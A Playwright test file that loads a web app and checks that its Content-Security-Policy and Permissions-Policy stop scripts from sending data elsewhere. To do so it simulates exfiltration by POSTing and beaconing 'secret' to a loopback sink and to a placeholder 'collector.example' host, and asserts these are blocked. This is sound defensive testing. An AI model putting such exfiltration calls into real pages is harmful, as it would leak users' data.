// The built app in the web shell, as a page attack would see it: where can a script send data, what does each
// response carry, and does the Permissions-Policy hold without errors.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import path from 'node:path';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright';

import { chromiumLaunchOptions } from '../chromium.mjs';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const { startWebServer } = await import(path.join(root, 'dist/web/server.js'));

let web;
let browser;
let sink; // a loopback server a script might try to post data to
let received = 0;

before(async () => {
  web = await startWebServer(path.join(root, 'dist/renderer'), 0);
  sink = createServer((req, res) => {
    received++;
    res.setHeader('Access-Control-Allow-Origin', '*');
    res.end('ok');
  });
  await new Promise((r) => sink.listen(0, '127.0.0.1', r));
  browser = await chromium.launch(chromiumLaunchOptions);
});

after(async () => {
  await browser?.close();
  await web?.close();
  sink?.close();
});

test('a script in the app can connect only to its own origin', async () => {
  const page = await browser.newPage();
  const problems = [];
  page.on('console', (msg) => msg.type() === 'error' && problems.push(msg.text()));
  page.on('pageerror', (error) => problems.push(String(error)));
  const response = await page.goto(web.url);
  await page.locator('lt-timer-bar input[name="name"]').waitFor();
  assert.deepEqual(
    problems,
    [],
    'the app loads without console errors (no unknown Permissions-Policy features either)',
  );

  const headers = response.headers();
  assert.match(headers['content-security-policy'], /connect-src 'self'(;|$)/);
  assert.equal(headers['referrer-policy'], 'no-referrer');
  assert.equal(headers['cross-origin-resource-policy'], 'same-origin');
  assert.equal(headers['x-content-type-options'], 'nosniff');
  assert.match(headers['permissions-policy'], /camera=\(\)/);

  const sinkUrl = `http://127.0.0.1:${sink.address().port}/leak`;
  const outcome = await page.evaluate(async (target) => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    const attempt = async (url) => {
      try {
        await fetch(url, { method: 'POST', body: 'secret', mode: 'no-cors' });
        return 'sent';
      } catch {
        return 'blocked';
      }
    };
    const results = {
      loopback: await attempt(target),
      https: await attempt('https://collector.example/'),
      self: await attempt('/index.html'),
    };
    navigator.sendBeacon(target, 'secret'); // queued either way; CSP blocks it on the way out
    await new Promise((r) => setTimeout(r, 200));
    return { results, violations };
  }, sinkUrl);
  assert.equal(outcome.results.loopback, 'blocked');
  assert.equal(outcome.results.https, 'blocked');
  assert.equal(outcome.results.self, 'sent');
  assert.ok(outcome.violations.filter((d) => d === 'connect-src').length >= 2, String(outcome.violations));
  assert.equal(received, 0, 'nothing reached the other loopback port');

  const permissions = await page.evaluate(async () => {
    const state = async (name) => {
      try {
        return (await navigator.permissions.query({ name })).state;
      } catch {
        return 'unsupported';
      }
    };
    return {
      geolocation: await state('geolocation'),
      camera: await state('camera'),
      microphone: await state('microphone'),
    };
  });
  for (const [name, state] of Object.entries(permissions))
    assert.ok(['denied', 'unsupported'].includes(state), `${name}: ${state}`);
  await page.close();
});
